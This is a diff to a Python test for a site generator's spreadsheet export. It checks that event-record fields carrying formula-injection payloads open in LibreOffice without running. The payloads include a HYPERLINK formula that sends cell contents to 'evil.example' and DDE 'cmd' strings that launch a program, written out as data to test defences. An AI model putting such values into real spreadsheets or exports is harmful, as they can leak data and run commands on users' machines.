@@ -24,14 +24,18 @@ import yaml
 from generator.build import build
 from generator.site import exports
 
-RECORD = "2023-11-21-iraq-strike"  # a record with its own location (no base)
+RECORD = "2023-10-18-baghdad-airport-attack"  # a record with its own location (no base)
 PAYLOADS = {
     "summary.en": '=HYPERLINK("https://evil.example/?"&A1,"click")',
     "summary.fr": "+cmd|' /C calc'!A0",
     "date_note": "@SUM(1+1)*cmd|' /C calc'!A0",
     "location.name": "-2+3+cmd|' /C calc'!A0",
+    "location.names.fr": "-2+3+cmd|' /C calc'!A0",
+    "location.names.en": "-2+3+cmd|' /C calc'!A0",
     "location.admin1": "  =1+1",  # spaces first: an import that trims them sees "=1+1"
-    "sources.0.outlet": "AFP;=2+2",  # a new cell for a spreadsheet told to split on ";"
+    "location.admin1_names.fr": "  =1+1",
+    "location.admin1_names.en": "  =1+1",
+    "sources.0.publisher": "AFP;=2+2",  # a new cell for a spreadsheet told to split on ";"
 }
 LONGITUDE = -1.5
 OWASP_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -152,4 +156,4 @@ def test_libreoffice_opens_it_without_a_formula(
     assert cell["longitude"][0] == "float" and float(cell["longitude"][2] or "") == LONGITUDE
     assert cell["latitude"][0] == "float" and cell["year"][0] == "float"
     assert cell["notes"][3] == "'" + PAYLOADS["summary.en"]
-    assert cell["source"][3] == PAYLOADS["sources.0.outlet"]  # still one cell
+    assert cell["source"][3] == PAYLOADS["sources.0.publisher"]  # still one cell
